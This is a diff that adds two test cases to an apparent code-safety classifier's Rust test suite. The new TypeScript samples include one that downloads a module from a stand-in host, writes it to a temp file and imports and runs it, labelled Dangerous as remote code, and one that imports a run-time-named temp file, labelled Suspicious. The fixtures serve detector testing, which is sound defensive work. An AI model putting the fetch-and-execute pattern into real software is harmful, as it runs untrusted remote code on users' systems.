@@ -3165,6 +3165,19 @@ fn values_through_keys_callbacks_and_later_rounds() {
             Clean,
             "",
         ),
+        // `import(file)` of the file a download was written to, its name partly run-time
+        (
+            Ts,
+            "import { writeFile } from 'node:fs/promises';\nimport os from 'node:os';\nimport path from 'node:path';\nasync function boot(): Promise<void> {\n  const res = await fetch('https://tools.example.net/boot.mjs');\n  const file = path.join(os.tmpdir(), `boot-${Date.now()}.mjs`);\n  await writeFile(file, await res.text());\n  const mod = await import(file);\n  await mod.default?.();\n}\nboot();\n",
+            Dangerous,
+            "remote-code",
+        ),
+        (
+            Ts,
+            "import os from 'node:os';\nimport path from 'node:path';\nasync function load(): Promise<void> {\n  const file = path.join(os.tmpdir(), `plugin-${Date.now()}.mjs`);\n  const mod = await import(file);\n  await mod.default?.();\n}\nload();\n",
+            Suspicious,
+            "obfuscated-execution",
+        ),
     ];
     check_all(rows);
 }
